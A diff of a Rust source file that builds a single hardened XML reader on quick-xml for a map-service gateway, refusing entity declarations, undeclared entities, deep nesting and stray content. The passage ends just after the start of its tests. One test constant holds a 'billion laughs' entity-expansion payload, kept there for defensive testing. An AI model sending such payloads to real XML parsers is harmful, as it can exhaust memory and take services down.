@@ -1,37 +1,441 @@
-//! A small owned XML tree read with quick-xml and written back with `quick_xml::Writer`.
+//! The one hardened XML reader, and a small owned XML tree built with it.
 //!
-//! Capabilities filtering needs look-ahead (a WMS `<Layer>` is kept or dropped by a
-//! `<Name>` child that comes after its start tag), so events are read into a tree, edited,
-//! and written back. Everything not edited is written as it was read: start tags keep
-//! their raw attribute text, text and comments their raw escaping, and the declaration,
-//! processing instructions, CDATA and comments stay in place.
+//! [`Hardened`] is how tilegate reads any XML, from clients (WFS POST bodies, FES
+//! `FILTER` values) or upstreams (capabilities, DescribeFeatureType schemas): quick-xml's
+//! `NsReader` with every hardening rule on in one place (see its docs). Callers map its
+//! [`XmlError`] into their own error types; none configures quick-xml itself.
 //!
-//! The reader is strict where a pass-through would be dangerous: no DOCTYPE (unless the
-//! caller allows one without entity declarations, for WMS 1.1.1), no undeclared entity,
-//! exactly one root element, no text outside it, balanced tags, bounded depth, UTF-8 or
-//! ISO-8859-1 only. Pure code: no I/O, no logging.
+//! [`Doc`]: capabilities filtering needs look-ahead (a WMS `<Layer>` is kept or dropped by
+//! a `<Name>` child that comes after its start tag), so tokens are read into a tree,
+//! edited, and written back with `quick_xml::Writer`. Everything not edited is written as
+//! it was read: start tags keep their raw attribute text, text and comments their raw
+//! escaping, and the declaration, processing instructions, CDATA and comments stay in
+//! place. UTF-8 and ISO-8859-1 documents are written back in their own encoding.
+//!
+//! Pure code: no I/O, no logging.
 
 use std::borrow::Cow;
 
 use quick_xml::escape::{escape, partial_escape, unescape};
 use quick_xml::events::attributes::Attribute;
-use quick_xml::events::{BytesCData, BytesDecl, BytesEnd, BytesPI, BytesStart, BytesText, Event};
-use quick_xml::name::QName;
-use quick_xml::{Reader, Writer};
+use quick_xml::events::{BytesCData, BytesDecl, BytesEnd, BytesPI, BytesRef, BytesStart, BytesText, Event};
+use quick_xml::name::{LocalName, QName, ResolveResult};
+use quick_xml::{NsReader, Writer};
 
 use crate::ogc::capabilities::CapabilitiesError;
 
 /// The deepest element nesting accepted; real capabilities stay far below.
 pub(crate) const MAX_DEPTH: usize = 256;
 
-/// How the input bytes were encoded; the output is written the same way.
+// ---------------------------------------------------------------------------------
+// The hardened reader: every XML document tilegate reads goes through it
+// ---------------------------------------------------------------------------------
+
+/// How the input bytes are encoded.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Encoding {
+pub(crate) enum Encoding {
     Utf8 {
         bom: bool,
     },
     /// ISO-8859-1 and its kin: each byte is one character.
     Latin1,
+}
+
+/// Which DOCTYPEs a caller accepts.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum DocTypePolicy {
+    Refuse,
+    /// Accept one, before the root, without entity declarations or parameter entities
+    /// (WMS 1.1.1 ships a DOCTYPE with an `<!ELEMENT …>` internal subset). Entities are
+    /// never expanded.
+    AllowWithoutEntities,
+}
+
+/// Why the hardened reader refused a document, and where: `offset` counts bytes of the
+/// input as given (a byte-order mark included).
+#[derive(Debug)]
+pub(crate) struct XmlError {
+    pub offset: u64,
+    pub kind: XmlErrorKind,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub(crate) enum XmlErrorKind {
+    /// What quick-xml refuses: mismatched end tags, malformed or repeated attributes,
+    /// `--` in comments, a binding of the reserved `xml`/`xmlns` prefixes…
+    #[error("not well-formed: {0}")]
+    Syntax(quick_xml::Error),
+    #[error("not valid UTF-8")]
+    InvalidUtf8,
+    #[error("encoding `{0}` is not supported; UTF-8 or ISO-8859-1 expected")]
+    Encoding(String),
+    #[error("DOCTYPE declarations are refused")]
+    DocType,
+    #[error("the DOCTYPE declares entities")]
+    EntityDeclaration,
+    #[error(
+        "the entity `&{0};` is not declared; only `&amp;`, `&lt;`, `&gt;`, `&quot;`, `&apos;` \
+         and character references are read"
+    )]
+    UndeclaredEntity(String),
+    #[error("the character reference `&{0};` is not a valid XML character")]
+    InvalidCharRef(String),
+    #[error("elements nest deeper than {0}")]
+    TooDeep(usize),
+    #[error("more than one root element")]
+    SecondRoot,
+    #[error("{0} outside the root element")]
+    OutsideRoot(&'static str),
+    #[error("`{0}` is not a valid XML name")]
+    InvalidName(String),
+    #[error("`<{0}>` is never closed")]
+    Unclosed(String),
+    #[error("no root element")]
+    NoRoot,
+}
+
+impl std::fmt::Display for XmlError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match &self.kind {
+            XmlErrorKind::Syntax(e) => write!(f, "not well-formed at byte {}: {e}", self.offset),
+            kind => write!(f, "{kind} at byte {}", self.offset),
+        }
+    }
+}
+
+impl std::error::Error for XmlError {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        match &self.kind {
+            XmlErrorKind::Syntax(e) => Some(e),
+            _ => None,
+        }
+    }
+}
+
+fn refused(offset: u64, kind: XmlErrorKind) -> XmlError {
+    XmlError { offset, kind }
+}
+
+/// One checked piece of a document; quick-xml's events, with entity references
+/// resolved.
+#[derive(Debug)]
+pub(crate) enum Token<'a> {
+    Start(BytesStart<'a>),
+    Empty(BytesStart<'a>),
+    End(BytesEnd<'a>),
+    Text(BytesText<'a>),
+    CData(BytesCData<'a>),
+    /// A predefined entity or character reference (`reference` is the name between `&`
+    /// and `;`) and the character it stands for.
+    Ref {
+        reference: BytesRef<'a>,
+        value: char,
+    },
+    Comment(BytesText<'a>),
+    PI(BytesPI<'a>),
+    Decl(BytesDecl<'a>),
+    DocType(BytesText<'a>),
+    Eof,
+}
+
+const UTF8_BOM: &[u8] = &[0xEF, 0xBB, 0xBF];
+
+/// Reads the declared encoding from the XML declaration, if any.
+fn declared_encoding(bytes: &[u8]) -> Option<String> {
+    if !bytes.starts_with(b"<?xml") {
+        return None;
+    }
+    let end = bytes.windows(2).position(|w| w == b"?>")?;
+    let decl = String::from_utf8_lossy(&bytes[..end]);
+    let at = decl.find("encoding")?;
+    let rest = decl[at + "encoding".len()..].trim_start().strip_prefix('=')?.trim_start();
+    let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
+    let value = &rest[1..];
+    value.find(quote).map(|end| value[..end].to_owned())
+}
+
+/// How `input` is encoded: UTF-8 (checked whole), or a declared ISO-8859-1 family label
+/// without a byte-order mark. UTF-16 and other labels are refused.
+pub(crate) fn sniff(input: &[u8]) -> Result<Encoding, XmlError> {
+    if input.starts_with(&[0xFE, 0xFF]) || input.starts_with(&[0xFF, 0xFE]) {
+        return Err(refused(0, XmlErrorKind::Encoding("UTF-16".to_owned())));
+    }
+    let (bytes, bom) = match input.strip_prefix(UTF8_BOM) {
+        Some(rest) => (rest, true),
+        None => (input, false),
+    };
+    let declared = declared_encoding(bytes);
+    let label = declared.as_deref().map(str::to_ascii_lowercase);
+    match label.as_deref() {
+        None | Some("utf-8" | "utf8") => match std::str::from_utf8(bytes) {
+            Ok(_) => Ok(Encoding::Utf8 { bom }),
+            Err(e) => {
+                let offset = e.valid_up_to() + if bom { UTF8_BOM.len() } else { 0 };
+                Err(refused(u64::try_from(offset).unwrap_or(u64::MAX), XmlErrorKind::InvalidUtf8))
+            }
+        },
+        Some(
+            "iso-8859-1" | "latin1" | "latin-1" | "iso_8859-1" | "iso8859-1" | "windows-1252" | "cp1252" | "us-ascii"
+            | "ascii" | "iso-8859-15",
+        ) if !bom => Ok(Encoding::Latin1),
+        Some(_) => Err(refused(0, XmlErrorKind::Encoding(declared.unwrap_or_default()))),
+    }
+}
+
+/// Bytes in `encoding` as text; `None` for invalid UTF-8.
+fn decode(encoding: Encoding, bytes: &[u8]) -> Option<Cow<'_, str>> {
+    match encoding {
+        Encoding::Utf8 { .. } => std::str::from_utf8(bytes).ok().map(Cow::Borrowed),
+        Encoding::Latin1 => Some(Cow::Owned(bytes.iter().map(|&b| char::from(b)).collect())),
+    }
+}
+
+/// True for a well-formed XML name (ASCII rules; any non-ASCII byte is accepted).
+fn valid_name(name: &[u8]) -> bool {
+    let mut bytes = name.iter();
+    bytes.next().is_some_and(|&c| c.is_ascii_alphabetic() || c == b'_' || c == b':' || !c.is_ascii())
+        && bytes.all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'-' | b'.') || !c.is_ascii())
+}
+
+/// XML whitespace (space, tab, CR, LF), the only text allowed outside the root.
+fn is_xml_space(b: &u8) -> bool {
+    matches!(b, b' ' | b'\t' | b'\r' | b'\n')
+}
+
+/// The character a reference stands for: one of the five predefined entities, or a
+/// character reference (`#233`, `#xE9`) to a character XML 1.0 allows.
+fn reference_value(name: &str) -> Option<char> {
+    let Some(number) = name.strip_prefix('#') else {
+        return match name {
+            "amp" => Some('&'),
+            "lt" => Some('<'),
+            "gt" => Some('>'),
+            "quot" => Some('"'),
+            "apos" => Some('\''),
+            _ => None,
+        };
+    };
+    let (digits, radix) = match number.strip_prefix('x') {
+        Some(hex) => (hex, 16),
+        None => (number, 10),
+    };
+    if digits.is_empty() || !digits.chars().all(|c| c.is_digit(radix)) {
+        return None;
+    }
+    let c = char::from_u32(u32::from_str_radix(digits, radix).ok()?)?;
+    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..).then_some(c)
+}
+
+/// The error for a reference that [`reference_value`] does not read.
+fn unreadable_reference(offset: u64, name: &str) -> XmlError {
+    let kind = if name.starts_with('#') {
+        XmlErrorKind::InvalidCharRef(name.to_owned())
+    } else {
+        XmlErrorKind::UndeclaredEntity(name.to_owned())
+    };
+    refused(offset, kind)
+}
+
+/// The one XML reader: quick-xml's `NsReader` with every hardening rule on, whichever
+/// caller reads (capabilities, FES filters, WFS bodies, DescribeFeatureType schemas).
+///
+/// - end tags must match (`check_end_names`), comments must not hold `--`;
+/// - a DOCTYPE is refused, unless the caller's [`DocTypePolicy`] accepts one without
+///   entity declarations (WMS 1.1.1);
+/// - entity references other than the five predefined ones, and character references
+///   to characters XML 1.0 does not allow, are refused, in text and attribute values;
+/// - elements nest at most [`MAX_DEPTH`] deep;
+/// - exactly one root element; outside it only whitespace, comments, processing
+///   instructions, the declaration and an accepted DOCTYPE;
+/// - element and attribute names are well-formed, attributes are not repeated;
+/// - the input is UTF-8 or a declared ISO-8859-1 family encoding.
+///
+/// Every error names the byte offset where the document broke.
+pub(crate) struct Hardened<'a> {
+    reader: NsReader<&'a [u8]>,
+    /// Bytes before what the reader sees (a UTF-8 byte-order mark), added to positions.
+    base: u64,
+    encoding: Encoding,
+    doctype: DocTypePolicy,
+    /// Names of the open elements, the innermost last.
+    open: Vec<String>,
+    root_seen: bool,
+    doctype_seen: bool,
+}
+
+impl<'a> Hardened<'a> {
+    /// A reader over `input`, whose encoding is checked first (see [`sniff`]).
+    pub(crate) fn new(input: &'a [u8], doctype: DocTypePolicy) -> Result<Hardened<'a>, XmlError> {
+        let encoding = sniff(input)?;
+        Ok(Hardened::over(input, encoding, doctype))
+    }
+
+    /// A reader over input whose encoding [`sniff`] found.
+    fn over(input: &'a [u8], encoding: Encoding, doctype: DocTypePolicy) -> Hardened<'a> {
+        let (body, base) = match input.strip_prefix(UTF8_BOM) {
+            Some(rest) => (rest, UTF8_BOM.len() as u64),
+            None => (input, 0),
+        };
+        let mut reader = NsReader::from_reader(body);
+        let config = reader.config_mut();
+        config.trim_text(false);
+        config.check_end_names = true;
+        config.check_comments = true;
+        config.expand_empty_elements = false;
+        config.allow_dangling_amp = false;
+        config.allow_unmatched_ends = false;
+        Hardened { reader, base, encoding, doctype, open: Vec::new(), root_seen: false, doctype_seen: false }
+    }
+
+    /// The byte offset of the next token (after the last one read).
+    pub(crate) fn position(&self) -> u64 {
+        self.reader.buffer_position() + self.base
+    }
+
+    /// Resolves a qualified name (an element name or a QName-valued attribute) against
+    /// the namespace bindings in scope.
+    pub(crate) fn resolve_element<'n>(&self, name: QName<'n>) -> (ResolveResult<'_>, LocalName<'n>) {
+        self.reader.resolve_element(name)
+    }
+
+    /// The next checked token; after the root closed and the input ended, [`Token::Eof`].
+    pub(crate) fn next(&mut self) -> Result<Token<'a>, XmlError> {
+        let at = self.position();
+        let event = match self.reader.read_event() {
+            Ok(event) => event,
+            Err(e) => return Err(refused(self.reader.error_position() + self.base, XmlErrorKind::Syntax(e))),
+        };
+        self.check(event, at)
+    }
+
+    /// The next checked token with the namespace of its element (`Unbound` for tokens
+    /// that are not tags).
+    pub(crate) fn next_resolved(&mut self) -> Result<(ResolveResult<'_>, Token<'a>), XmlError> {
+        let token = self.next()?;
+        let resolved = match &token {
+            Token::Start(e) | Token::Empty(e) => self.reader.resolve_element(e.name()).0,
+            Token::End(e) => self.reader.resolve_element(e.name()).0,
+            _ => ResolveResult::Unbound,
+        };
+        Ok((resolved, token))
+    }
+
+    /// After a [`Token::Start`], reads (and checks) everything up to and including its
+    /// end tag; returns the position right after it.
+    pub(crate) fn skip_element(&mut self) -> Result<u64, XmlError> {
+        let depth = self.open.len();
+        while self.open.len() >= depth {
+            if let Token::Eof = self.next()? {
+                break;
+            }
+        }
+        Ok(self.position())
+    }
+
+    /// Bytes of the input as text in its encoding.
+    fn decode<'b>(&self, bytes: &'b [u8], at: u64) -> Result<Cow<'b, str>, XmlError> {
+        decode(self.encoding, bytes).ok_or_else(|| refused(at, XmlErrorKind::InvalidUtf8))
+    }
+
+    fn check(&mut self, event: Event<'a>, at: u64) -> Result<Token<'a>, XmlError> {
+        let outside = self.open.is_empty();
+        Ok(match event {
+            Event::Start(e) => {
+                self.check_start(&e, at)?;
+                self.open.push(self.decode(e.name().as_ref(), at)?.into_owned());
+                Token::Start(e)
+            }
+            Event::Empty(e) => {
+                self.check_start(&e, at)?;
+                Token::Empty(e)
+            }
+            Event::End(e) => {
+                // quick-xml matched it against the innermost open element.
+                self.open.pop();
+                Token::End(e)
+            }
+            Event::Text(t) => {
+                if outside && !t.iter().all(is_xml_space) {
+                    return Err(refused(at, XmlErrorKind::OutsideRoot("text")));
+                }
+                Token::Text(t)
+            }
+            Event::CData(c) => {
+                if outside {
+                    return Err(refused(at, XmlErrorKind::OutsideRoot("CDATA")));
+                }
+                Token::CData(c)
+            }
+            Event::GeneralRef(reference) => {
+                if outside {
+                    return Err(refused(at, XmlErrorKind::OutsideRoot("an entity reference")));
+                }
+                let name = self.decode(&reference, at)?;
+                let value = reference_value(&name).ok_or_else(|| unreadable_reference(at, &name))?;
+                Token::Ref { reference, value }
+            }
+            Event::DocType(d) => {
+                if self.doctype == DocTypePolicy::Refuse || self.root_seen || self.doctype_seen {
+                    return Err(refused(at, XmlErrorKind::DocType));
+                }
+                let content = self.decode(&d, at)?;
+                let subset = content.find('[').map_or("", |i| &content[i..]);
+                if content.contains("<!ENTITY") || subset.contains('%') {
+                    return Err(refused(at, XmlErrorKind::EntityDeclaration));
+                }
+                self.doctype_seen = true;
+                Token::DocType(d)
+            }
+            Event::Comment(c) => Token::Comment(c),
+            Event::PI(p) => Token::PI(p),
+            Event::Decl(d) => Token::Decl(d),
+            Event::Eof => {
+                if let Some(name) = self.open.last() {
+                    return Err(refused(at, XmlErrorKind::Unclosed(name.clone())));
+                }
+                if !self.root_seen {
+                    return Err(refused(at, XmlErrorKind::NoRoot));
+                }
+                Token::Eof
+            }
+        })
+    }
+
+    /// A start or empty tag: one root, bounded depth, valid names, readable attributes.
+    fn check_start(&mut self, start: &BytesStart<'_>, at: u64) -> Result<(), XmlError> {
+        if self.open.is_empty() && self.root_seen {
+            return Err(refused(at, XmlErrorKind::SecondRoot));
+        }
+        if self.open.len() >= MAX_DEPTH {
+            return Err(refused(at, XmlErrorKind::TooDeep(MAX_DEPTH)));
+        }
+        self.root_seen = true;
+        let name = start.name();
+        if !valid_name(name.as_ref()) {
+            return Err(refused(at, XmlErrorKind::InvalidName(self.decode(name.as_ref(), at)?.into_owned())));
+        }
+        for attr in start.attributes().with_checks(true) {
+            let attr = attr.map_err(|e| refused(at, XmlErrorKind::Syntax(e.into())))?;
+            if !valid_name(attr.key.as_ref()) {
+                return Err(refused(at, XmlErrorKind::InvalidName(self.decode(attr.key.as_ref(), at)?.into_owned())));
+            }
+            let value = self.decode(&attr.value, at)?;
+            let mut rest: &str = &value;
+            while let Some(amp) = rest.find('&') {
+                let after = &rest[amp + 1..];
+                let Some(semicolon) = after.find(';') else {
+                    let error = quick_xml::escape::EscapeError::UnterminatedEntity(0..value.len());
+                    return Err(refused(at, XmlErrorKind::Syntax(error.into())));
+                };
+                let name = &after[..semicolon];
+                if reference_value(name).is_none() {
+                    return Err(unreadable_reference(at, name));
+                }
+                rest = &after[semicolon + 1..];
+            }
+        }
+        Ok(())
+    }
 }
 
 /// One attribute: its raw (escaped) value as written and its unescaped value.
@@ -316,81 +720,57 @@ pub(crate) struct Doc {
     encoding: Encoding,
 }
 
-/// Reads the declared encoding from the XML declaration, if any.
-fn declared_encoding(bytes: &[u8]) -> Option<String> {
-    if !bytes.starts_with(b"<?xml") {
-        return None;
-    }
-    let end = bytes.windows(2).position(|w| w == b"?>")?;
-    let decl = String::from_utf8_lossy(&bytes[..end]);
-    let at = decl.find("encoding")?;
-    let rest = decl[at + "encoding".len()..].trim_start().strip_prefix('=')?.trim_start();
-    let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
-    let value = &rest[1..];
-    value.find(quote).map(|end| value[..end].to_owned())
-}
-
-/// Decodes the input into a string, remembering how to encode the output.
-fn decode(input: &[u8]) -> Result<(Cow<'_, str>, Encoding), CapabilitiesError> {
-    if input.starts_with(&[0xFE, 0xFF]) || input.starts_with(&[0xFF, 0xFE]) {
-        return Err(CapabilitiesError::Encoding("UTF-16".to_owned()));
-    }
-    let (bytes, bom) = match input.strip_prefix(&[0xEF, 0xBB, 0xBF]) {
-        Some(rest) => (rest, true),
-        None => (input, false),
-    };
-    let declared = declared_encoding(bytes);
-    let label = declared.as_deref().map(str::to_ascii_lowercase);
-    match label.as_deref() {
-        None | Some("utf-8" | "utf8") => {
-            let text = std::str::from_utf8(bytes).map_err(|e| CapabilitiesError::InvalidUtf8(e.valid_up_to()))?;
-            Ok((Cow::Borrowed(text), Encoding::Utf8 { bom }))
+impl From<XmlError> for CapabilitiesError {
+    fn from(e: XmlError) -> CapabilitiesError {
+        let position = e.offset;
+        match e.kind {
+            XmlErrorKind::Syntax(source) => CapabilitiesError::Xml { position, source },
+            XmlErrorKind::InvalidUtf8 => {
+                CapabilitiesError::InvalidUtf8(usize::try_from(position).unwrap_or(usize::MAX))
+            }
+            XmlErrorKind::Encoding(label) => CapabilitiesError::Encoding(label),
+            XmlErrorKind::DocType => CapabilitiesError::DocType,
+            XmlErrorKind::EntityDeclaration => CapabilitiesError::EntityDeclaration,
+            XmlErrorKind::UndeclaredEntity(name) | XmlErrorKind::InvalidCharRef(name) => {
+                CapabilitiesError::UndeclaredEntity(name)
+            }
+            XmlErrorKind::TooDeep(limit) => CapabilitiesError::TooDeep(limit),
+            kind => CapabilitiesError::Malformed { position, message: kind.to_string() },
         }
-        Some(
-            "iso-8859-1" | "latin1" | "latin-1" | "iso_8859-1" | "iso8859-1" | "windows-1252" | "cp1252" | "us-ascii"
-            | "ascii" | "iso-8859-15",
-        ) if !bom => Ok((Cow::Owned(bytes.iter().map(|&b| char::from(b)).collect()), Encoding::Latin1)),
-        Some(_) => Err(CapabilitiesError::Encoding(declared.unwrap_or_default())),
     }
-}
-
-/// True for a well-formed XML name (ASCII rules; any non-ASCII character is accepted).
-fn valid_name(name: &str) -> bool {
-    let mut chars = name.chars();
-    chars.next().is_some_and(|c| c.is_alphabetic() || c == '_' || c == ':' || !c.is_ascii())
-        && chars.all(|c| c.is_alphanumeric() || matches!(c, '_' | ':' | '-' | '.') || !c.is_ascii())
 }
 
 fn utf8(bytes: &[u8]) -> Result<&str, CapabilitiesError> {
     std::str::from_utf8(bytes).map_err(|e| CapabilitiesError::InvalidUtf8(e.valid_up_to()))
 }
 
+/// Token bytes as text: the tree holds UTF-8 whatever the document's encoding.
+fn text(bytes: &[u8], encoding: Encoding, at: u64) -> Result<Cow<'_, str>, CapabilitiesError> {
+    decode(encoding, bytes).ok_or(CapabilitiesError::InvalidUtf8(usize::try_from(at).unwrap_or(usize::MAX)))
+}
+
 fn xml_error(position: u64, source: impl Into<quick_xml::Error>) -> CapabilitiesError {
     CapabilitiesError::Xml { position, source: source.into() }
 }
 
-fn malformed(position: u64, message: impl Into<String>) -> CapabilitiesError {
-    CapabilitiesError::Malformed { position, message: message.into() }
-}
-
-/// The element for a start tag (ending at byte `at`), attributes checked and unescaped.
-fn element_from(start: &BytesStart<'_>, empty: bool, at: u64) -> Result<Element, CapabilitiesError> {
-    let name = utf8(start.name().as_ref())?.to_owned();
-    if !valid_name(&name) {
-        return Err(malformed(at, format!("`<{name}` is not a valid element name")));
-    }
+/// The element for a start tag (at byte `at`), attributes unescaped; the hardened reader
+/// already checked names and references.
+fn element_from(
+    start: &BytesStart<'_>,
+    empty: bool,
+    encoding: Encoding,
+    at: u64,
+) -> Result<Element, CapabilitiesError> {
+    let name = text(start.name().as_ref(), encoding, at)?.into_owned();
     let mut attrs = Vec::new();
     for attr in start.attributes().with_checks(true) {
         let attr = attr.map_err(|e| xml_error(at, e))?;
-        let key = utf8(attr.key.as_ref())?.to_owned();
-        if !valid_name(&key) {
-            return Err(malformed(at, format!("`{key}` is not a valid attribute name")));
-        }
-        let raw = utf8(&attr.value)?.to_owned();
+        let key = text(attr.key.as_ref(), encoding, at)?.into_owned();
+        let raw = text(&attr.value, encoding, at)?.into_owned();
         let value = unescape(&raw).map_err(|e| xml_error(at, e))?.into_owned();
         attrs.push(Attr { key, raw, value });
     }
-    let raw_start = Some(utf8(start)?.to_owned());
+    let raw_start = Some(text(start, encoding, at)?.into_owned());
     Ok(Element { name, attrs, children: Vec::new(), raw_start, empty })
 }
 
@@ -404,25 +784,12 @@ fn push_text(nodes: &mut Vec<Node>, raw: &str, value: &str) {
     }
 }
 
-/// Which DOCTYPEs a caller accepts.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum DocTypePolicy {
-    Refuse,
-    /// Accept one without entity declarations or parameter entities (WMS 1.1.1 ships a
-    /// DOCTYPE with an `<!ELEMENT …>` internal subset). Entities are never expanded.
-    AllowWithoutEntities,
-}
-
 impl Doc {
-    /// Reads a whole document into a tree; any well-formedness problem is an error.
+    /// Reads a whole document into a tree through the [`Hardened`] reader; anything it
+    /// refuses is an error.
     pub(crate) fn parse(input: &[u8], doctype: DocTypePolicy) -> Result<Doc, CapabilitiesError> {
-        let (text, encoding) = decode(input)?;
-        let mut reader = Reader::from_str(&text);
-        let config = reader.config_mut();
-        config.trim_text(false);
-        config.check_end_names = true;
-        config.check_comments = true;
-        config.expand_empty_elements = false;
+        let encoding = sniff(input)?;
+        let mut reader = Hardened::over(input, encoding, doctype);
 
         let mut before: Vec<Node> = Vec::new();
         let mut root: Option<Element> = None;
@@ -431,104 +798,64 @@ impl Doc {
         let mut stack: Vec<Element> = Vec::new();
 
         loop {
-            let event = reader.read_event().map_err(|e| xml_error(reader.error_position(), e))?;
-            let at = reader.buffer_position();
-            let outside_root = stack.is_empty();
+            let token = reader.next()?;
+            let at = reader.position();
             let nodes: &mut Vec<Node> = match stack.last_mut() {
                 Some(open) => &mut open.children,
                 None if root.is_some() => &mut after,
                 None => &mut before,
             };
-            match event {
-                Event::Start(start) => {
-                    if root.is_some() && stack.is_empty() {
-                        return Err(malformed(at, "more than one root element"));
-                    }
-                    if stack.len() >= MAX_DEPTH {
-                        return Err(CapabilitiesError::TooDeep(MAX_DEPTH));
-                    }
-                    stack.push(element_from(&start, false, at)?);
-                }
-                Event::Empty(start) => {
-                    let el = element_from(&start, true, at)?;
-                    if outside_root {
-                        if root.is_some() {
-                            return Err(malformed(at, "more than one root element"));
-                        }
-                        root = Some(el);
-                    } else {
-                        nodes.push(Node::Element(el));
+            match token {
+                Token::Start(start) => stack.push(element_from(&start, false, encoding, at)?),
+                Token::Empty(start) => {
+                    let el = element_from(&start, true, encoding, at)?;
+                    match stack.last_mut() {
+                        Some(parent) => parent.children.push(Node::Element(el)),
+                        None => root = Some(el),
                     }
                 }
-                Event::End(_) => {
-                    // INVARIANT: quick-xml checks end names against open tags, so an
-                    // End event always has an open element; guard anyway.
+                Token::End(_) => {
+                    // INVARIANT: the hardened reader matches every end tag against an
+                    // open element, so the stack is not empty; guard anyway.
                     let Some(done) = stack.pop() else {
-                        return Err(malformed(at, "unexpected end tag"));
+                        return Err(CapabilitiesError::Malformed {
+                            position: at,
+                            message: "unexpected end tag".into(),
+                        });
                     };
                     match stack.last_mut() {
                         Some(parent) => parent.children.push(Node::Element(done)),
                         None => root = Some(done),
                     }
                 }
-                Event::Text(t) => {
-                    let raw = utf8(&t)?;
-                    if outside_root && !raw.trim().is_empty() {
-                        return Err(malformed(at, "text outside the root element"));
-                    }
-                    let value = unescape(raw).map_err(|e| xml_error(at, e))?;
-                    push_text(nodes, raw, &value);
+                Token::Text(t) => {
+                    let raw = text(&t, encoding, at)?;
+                    let value = unescape(&raw).map_err(|e| xml_error(at, e))?;
+                    push_text(nodes, &raw, &value);
                 }
-                Event::GeneralRef(r) => {
-                    let name = utf8(&r)?;
-                    if outside_root {
-                        return Err(malformed(at, "text outside the root element"));
-                    }
-                    let value = if r.is_char_ref() {
-                        match r.resolve_char_ref().map_err(|e| xml_error(at, e))? {
-                            Some(c) => c.to_string(),
-                            None => return Err(CapabilitiesError::UndeclaredEntity(name.to_owned())),
-                        }
-                    } else {
-                        match name {
-                            "amp" => "&".to_owned(),
-                            "lt" => "<".to_owned(),
-                            "gt" => ">".to_owned(),
-                            "quot" => "\"".to_owned(),
-                            "apos" => "'".to_owned(),
-                            _ => return Err(CapabilitiesError::UndeclaredEntity(name.to_owned())),
-                        }
-                    };
-                    push_text(nodes, &format!("&{name};"), &value);
+                Token::Ref { reference, value } => {
+                    let name = text(&reference, encoding, at)?;
+                    push_text(nodes, &format!("&{name};"), value.encode_utf8(&mut [0; 4]));
                 }
-                Event::CData(c) => {
-                    if outside_root {
-                        return Err(malformed(at, "CDATA outside the root element"));
+                Token::CData(c) => nodes.push(Node::CData(text(&c, encoding, at)?.into_owned())),
+                Token::Comment(c) => nodes.push(Node::Comment(text(&c, encoding, at)?.into_owned())),
+                Token::PI(pi) => nodes.push(Node::PI(text(&pi, encoding, at)?.into_owned())),
+                Token::Decl(decl) => {
+                    // Written back into the UTF-8 output as it was read, so a Latin-1
+                    // declaration must be ASCII.
+                    if encoding == Encoding::Latin1 && !decl.is_ascii() {
+                        return Err(CapabilitiesError::Malformed {
+                            position: at,
+                            message: "the XML declaration is not ASCII".into(),
+                        });
                     }
-                    nodes.push(Node::CData(utf8(&c)?.to_owned()));
+                    nodes.push(Node::Decl(decl.into_owned()));
                 }
-                Event::Comment(c) => nodes.push(Node::Comment(utf8(&c)?.to_owned())),
-                Event::PI(pi) => nodes.push(Node::PI(utf8(&pi)?.to_owned())),
-                Event::Decl(decl) => nodes.push(Node::Decl(decl.into_owned())),
-                Event::DocType(dt) => {
-                    let content = utf8(&dt)?;
-                    if doctype == DocTypePolicy::Refuse || root.is_some() || !outside_root {
-                        return Err(CapabilitiesError::DocType);
-                    }
-                    let subset = content.find('[').map_or("", |i| &content[i..]);
-                    if content.contains("<!ENTITY") || subset.contains('%') {
-                        return Err(CapabilitiesError::EntityDeclaration);
-                    }
-                    nodes.push(Node::DocType(content.to_owned()));
-                }
-                Event::Eof => break,
+                Token::DocType(dt) => nodes.push(Node::DocType(text(&dt, encoding, at)?.into_owned())),
+                Token::Eof => break,
             }
         }
-        let end = reader.buffer_position();
-        if let Some(open) = stack.last() {
-            return Err(malformed(end, format!("`<{}>` is never closed", open.name)));
-        }
-        let root = root.ok_or_else(|| malformed(end, "no root element"))?;
+        let root = root.ok_or_else(|| XmlError { offset: reader.position(), kind: XmlErrorKind::NoRoot })?;
         Ok(Doc { before, root, after, encoding })
     }
 
@@ -756,6 +1083,14 @@ mod tests {
     }
 
     #[test]
+    fn latin1_error_offsets_count_the_original_bytes() {
+        let input = b"<?xml version='1.0' encoding='ISO-8859-1'?><a t='M\xfcnchen'>K\xf6ln</a><b/>";
+        let at = input.len() as u64 - 4;
+        let e = Doc::parse(input, DocTypePolicy::Refuse).expect_err("two roots");
+        assert!(matches!(e, CapabilitiesError::Malformed { position, .. } if position == at), "{e:?}");
+    }
+
+    #[test]
     fn invalid_utf8_and_utf16_are_refused() {
         assert!(matches!(Doc::parse(b"<a>\xff</a>", DocTypePolicy::Refuse), Err(CapabilitiesError::InvalidUtf8(3))));
         assert!(matches!(
@@ -766,6 +1101,172 @@ mod tests {
             Doc::parse(b"<?xml version='1.0' encoding='Shift_JIS'?><a/>", DocTypePolicy::Refuse),
             Err(CapabilitiesError::Encoding(_))
         ));
+    }
+
+    /// Reads a whole document through the hardened reader; the number of tokens.
+    fn harden(input: &[u8], doctype: DocTypePolicy) -> Result<usize, XmlError> {
+        let mut reader = Hardened::new(input, doctype)?;
+        let mut tokens = 0;
+        while !matches!(reader.next()?, Token::Eof) {
+            tokens += 1;
+        }
+        Ok(tokens)
+    }
+
+    fn refusal(input: &str, doctype: DocTypePolicy) -> XmlError {
+        harden(input.as_bytes(), doctype).expect_err(input)
+    }
+
+    const BILLION_LAUGHS: &str = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n \
+        <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n \
+        <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n<lolz>&lol3;</lolz>";
+
+    #[test]
